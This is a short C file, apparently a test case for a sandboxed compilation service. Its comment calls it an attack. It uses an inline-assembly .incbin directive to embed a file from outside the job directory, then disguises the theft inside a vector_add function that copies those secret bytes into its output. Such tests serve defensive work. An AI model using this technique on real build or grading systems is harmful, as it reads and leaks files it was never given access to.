#include <stdint.h>
/* Attack: embed a file outside the job directory with .incbin. */
__asm__(".section .rodata\n.global leaked\nleaked:\n.incbin \"@SECRET@\"\n.byte 0\n.previous\n");
extern const char leaked[];
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	for (int64_t i = 0; i < n; i++) out[i] = (float)leaked[i % 16];
	(void)a; (void)b;
}
